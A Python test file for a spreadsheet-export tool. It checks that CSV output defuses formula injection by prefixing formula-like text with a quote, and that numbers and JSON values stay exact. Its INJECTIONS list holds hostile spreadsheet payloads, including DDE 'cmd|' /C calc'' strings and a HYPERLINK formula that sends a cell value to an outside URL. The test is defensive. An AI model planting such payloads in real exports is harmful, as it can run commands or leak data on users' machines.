"""CSV exports opened in a spreadsheet run no formulas: text that starts like one comes back with a quote in
front, numbers stay numbers, and the JSON exports keep every value exact."""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from qaas_excel.audit import AuditLog
from qaas_excel.cli import app
from qaas_excel.csv_export import csv_field, write_csv
from qaas_excel.templates import DEMO_CHARGE_POINTS, DEMO_OPERATORS, build_workbook

runner = CliRunner()

INJECTIONS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=", "+", "-", "@",
              '=HYPERLINK("https://example.com/?x="&A1,"Details")', "-2+3+cmd|' /C calc'!A0",
              "=cmd|' /C calc'!A0", "@SUM(A1:A9)*cmd|' /C calc'!A0", "+49 351 1234567", "-- note", "==1",
              "=1;=2", "\t", "=\r\n=2"]
HARMLESS = ["ACME GmbH", "a=b", "1+1", " =1+1", "x;=1+1", "Straße 1, 01067 Dresden", "", "'=already quoted"]
NUMBERS = ["-0.001", "18000", "+5", "0.5", ".5", "1e3", "-1E-3", "007"]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_that_starts_like_a_formula_is_written_with_a_quote_in_front(text: str) -> None:
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_unchanged(text: str) -> None:
    assert csv_field(text) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_text_that_is_a_plain_number_stays_that_number_unquoted(text: str) -> None:
    line = write_csv(["n"], [[text]]).splitlines()[1]
    assert line == text  # unquoted: a spreadsheet reads it as a number, and a number runs nothing


def test_typed_numbers_are_exact_and_unquoted_and_text_is_quoted() -> None:
    document = write_csv(["a", "b", "c", "d", "e"], [[Decimal("-0.001"), Decimal("1E+3"), 7, None, "x;=1"]])
    assert document.splitlines()[1] == '-0.001,1000,7,"","x;=1"'  # ";" inside quotes starts no cell


def audit_entry(log: AuditLog, text: str) -> None:
    entry = log.begin(environment="sandbox", account=text, method="POST", resource="chargepoint",
                      customer_reference=text, changes={"organization_name": {"old": text, "new": text},
                                                        "amount": {"old": "-0.001", "new": "18000"}})
    log.finish(entry, ok=False, outcome=text)


def test_audit_csv_neutralises_every_field_and_audit_json_keeps_the_text(qaas_home: Path, tmp_path: Path) -> None:
    log = AuditLog()
    corpus = INJECTIONS + HARMLESS
    for text in corpus:
        audit_entry(log, text)
    out = tmp_path / "audit.csv"
    result = runner.invoke(app, ["audit", "--csv", str(out)], catch_exceptions=False)
    assert result.exit_code == 0
    rows = read_csv(out)
    assert len(rows) == 4 * len(corpus)  # two phases, two changed fields each
    expected = {t: "'" + t if t in INJECTIONS else t for t in corpus}
    names = [r for r in rows if r["field"] == "organization_name"]
    for i, row in enumerate(names):
        text = corpus[i // 2]
        assert [row["account"], row["customer_reference"], row["old"], row["new"]] == [expected[text]] * 4
        assert row["outcome"] == ("" if row["phase"] == "sending" else expected[text])
    amounts = [r for r in rows if r["field"] == "amount"]
    assert {(r["old"], r["new"]) for r in amounts} == {("-0.001", "18000")}
    assert '"amount",-0.001,18000,' in out.read_text(encoding="utf-8-sig")  # numbers unquoted, as numbers

    entries = json.loads(runner.invoke(app, ["audit", "--json"], catch_exceptions=False).stdout)
    assert [e["customer_reference"] for e in entries] == [t for t in corpus for _ in range(2)]
    assert all(e["changes"]["organization_name"]["new"] == e["customer_reference"] for e in entries)


def test_reconcile_csv_neutralises_service_text_and_keeps_differences_as_numbers(sandbox, signed_in,
                                                                                 tmp_path: Path) -> None:
    book = tmp_path / "book.xlsx"
    build_workbook(DEMO_OPERATORS[:1], DEMO_CHARGE_POINTS[:1], size=0).save(book)
    assert runner.invoke(app, ["push", str(book), "--env", "sandbox"], catch_exceptions=False).exit_code == 0
    [op] = sandbox.admin.records("operator")
    [cp] = sandbox.admin.records("chargepoint")
    hostile_name = '=HYPERLINK("https://example.com","Stadtwerke")'
    sandbox.admin.update_record("operator", op["id"], organization_name=hostile_name)
    sandbox.admin.update_record("chargepoint", cp["id"], amount=str(Decimal(cp["amount"]) - Decimal("0.001")))
    for i, text in enumerate(INJECTIONS):
        sandbox.admin.create_record("chargepoint", **{**cp, "id": None, "customer_reference": text,
                                                      "evse_id": f"DE*SWE*E{9000000 + i}*1"})

    out = tmp_path / "detail.csv"
    result = runner.invoke(app, ["reconcile", str(book), "--env", "sandbox", "--csv", str(out)],
                           catch_exceptions=False)
    assert result.exit_code == 1  # not in sync
    rows = read_csv(out)
    [differs] = [r for r in rows if r["verdict"] == "amount differs"]
    assert differs["difference_kwh"] == "-0.001" and differs["difference_mwh"] == "-0.000001"
    assert differs["operator"] == "'" + hostile_name
    only = [r for r in rows if r["verdict"] == "only on service"]
    assert sorted(r["customer_reference"] for r in only) == sorted("'" + t for t in INJECTIONS)
    assert all(r["operator"] == "'" + hostile_name for r in only)
    assert ",-0.001,-0.000001," in out.read_text(encoding="utf-8-sig")  # a negative difference is a number

    report = json.loads(runner.invoke(app, ["reconcile", str(book), "--env", "sandbox", "--json"],
                                      catch_exceptions=False).stdout)
    only_json = [d for d in report["detail"] if d["verdict"] == "only on service"]
    assert sorted(d["customer_reference"] for d in only_json) == sorted(INJECTIONS)
    assert {d["operator"] for d in report["detail"]} == {hostile_name}


def test_csv_exports_start_with_a_byte_order_mark_so_excel_reads_umlauts(sandbox, signed_in, demo_book: Path,
                                                                           tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from qaas_excel.cli import app

    runner = CliRunner()
    runner.invoke(app, ["push", str(demo_book), "--env", "sandbox"], catch_exceptions=False)
    for args in (["reconcile", str(demo_book), "--env", "sandbox"], ["audit"]):
        out = tmp_path / f"{args[0]}.csv"
        runner.invoke(app, [*args, "--csv", str(out)], catch_exceptions=False)
        data = out.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") and not data[3:].startswith(b"\xef\xbb\xbf")
        assert data.decode("utf-8-sig").startswith('"')  # the header follows the mark at once
